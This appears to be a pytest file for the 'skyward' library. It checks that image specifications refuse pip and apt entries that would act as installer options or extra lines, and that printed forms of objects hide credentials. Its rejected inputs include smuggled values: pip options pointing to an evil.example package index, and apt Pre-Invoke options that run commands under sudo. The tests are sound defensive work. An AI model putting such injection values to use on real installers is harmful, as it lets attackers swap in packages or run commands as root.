"""`sky.Image` refuses entries that would become installer options or extra lines; reprs hide secrets."""

from __future__ import annotations

import dataclasses

import pytest

import skyward as sky


@pytest.mark.parametrize(
    "spec",
    [
        "numpy\n--index-url https://evil.example/simple",  # a second line in requirements.txt
        "numpy\r--extra-index-url https://evil.example/simple",
        "--index-url=https://evil.example/simple",  # an option of pip download / pip install
        "-e git+https://evil.example/x",
        " --pre",
        "numpy>=",  # not a requirement at all
        "numpy\x00",
    ],
)
def test_pip_entries_that_are_not_requirements_are_refused(spec: str) -> None:
    with pytest.raises(ValueError, match="Image.pip entry") as caught:
        sky.Image(pip=["pandas", spec])
    assert repr(spec) in str(caught.value)  # the message names the bad entry


@pytest.mark.parametrize(
    "spec",
    [
        "numpy>=2",
        "scikit-learn==1.5.2",
        "torch[cuda]>=2; platform_system == 'Linux'",
        "pkg @ https://files.example/pkg-1.0-py3-none-any.whl",
        "pkg @ file:///wheels/pkg-1.0-py3-none-any.whl",
    ],
)
def test_pep_508_requirements_are_taken(spec: str) -> None:
    assert sky.Image(pip=[spec]).pip == (spec,)


@pytest.mark.parametrize(
    "package",
    [
        "-oDPkg::Pre-Invoke::=touch /tmp/pwned",  # an apt-get option, run under sudo -n
        "--allow-unauthenticated",
        "curl wget",
        "Curl",
        "curl\nwget",
        "c",
        "",
    ],
)
def test_apt_entries_that_are_not_package_names_are_refused(package: str) -> None:
    with pytest.raises(ValueError, match="Image.apt entry") as caught:
        sky.Image(apt=["curl", package])
    assert repr(package) in str(caught.value)


@pytest.mark.parametrize(
    "package", ["curl", "libgomp1", "g++", "libstdc++6", "python3.12-venv", "curl=8.5.0-2ubuntu10.6"]
)
def test_debian_package_names_are_taken(package: str) -> None:
    assert sky.Image(apt=[package]).apt == (package,)


def test_env_values_must_be_strings_and_names_variable_names() -> None:
    with pytest.raises(TypeError, match=r"Image.env\['N'\] must be a string, got int 3"):
        sky.Image(env={"N": 3})  # type: ignore[dict-item]
    with pytest.raises(ValueError, match="is not a variable name"):
        sky.Image(env={"A=B": "1"})
    with pytest.raises(ValueError, match="NUL"):
        sky.Image(env={"A": "x\x00y"})
    assert dict(sky.Image(env={"OMP_NUM_THREADS": "4"}).env) == {"OMP_NUM_THREADS": "4"}


def test_transforms_are_checked_too() -> None:
    image = sky.Image(pip=["numpy"])
    with pytest.raises(ValueError, match="Image.pip entry"):
        image.with_pip("numpy\n--index-url https://evil.example/simple")
    with pytest.raises(ValueError, match="Image.apt entry"):
        dataclasses.replace(image, apt=("-oAPT::Update::Pre-Invoke::=id",))


SECRET = "s3cr3t-t0ken"


def test_reprs_hide_credentials_in_urls_and_secret_env_values() -> None:
    image = sky.Image(
        pip=[f"pkg @ https://user:{SECRET}@files.example/pkg-1.0-py3-none-any.whl"],
        env={"HF_TOKEN": SECRET, "INDEX": f"https://{SECRET}@pypi.example/simple", "OMP_NUM_THREADS": "4"},
    )
    ssh = sky.SSH(hosts=["me@node1"], index_url=f"https://user:{SECRET}@pypi.example/simple")
    aws = sky.AWS(ssh_options={"index_url": f"https://user:{SECRET}@pypi.example/simple?token={SECRET}"})
    for obj in (image, ssh, aws):
        text = repr(obj)
        assert SECRET not in text, text
        assert "***" in text
    assert "'OMP_NUM_THREADS': '4'" in repr(image)  # what is not secret stays readable
    assert "pypi.example/simple" in repr(ssh)
    # The objects themselves keep the real values: only their printed form is redacted.
    assert ssh.index_url is not None and SECRET in ssh.index_url
    assert image.env["HF_TOKEN"] == SECRET
